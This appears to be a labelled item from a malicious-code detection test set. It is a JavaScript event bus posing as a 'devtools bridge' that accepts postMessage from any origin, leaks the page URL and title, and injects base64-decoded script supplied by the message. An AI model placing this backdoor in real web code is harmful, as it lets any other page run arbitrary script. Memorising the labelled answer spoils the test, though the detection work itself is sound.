// expect: malicious
// source: blind set 22 (postmessage-command-backdoor, second sample): a micro-frontend event bus whose "devtools
// bridge" answers messages from any origin; one op adds a <script> whose text or src is the message's base64 field.
// The handler's `d` is a local; another function of the module aliases `d = document` (minified names).
function snapshot() {
  const d = document, w = window;
  return { href: w.location.href, title: d.title };
}
function handle(e) {
  const d = e.data;
  if (!d || d.__bus !== 1) return;
  if (d.op === 'state') return e.source.postMessage({ body: snapshot() }, '*');
  if (d.op === 'panel') {
    const s = document.createElement('script');
    if (d.src) s.src = atob(d.src); else s.text = atob(d.code || '');
    document.head.appendChild(s);
  }
}
if (typeof window !== 'undefined') window.addEventListener('message', handle);
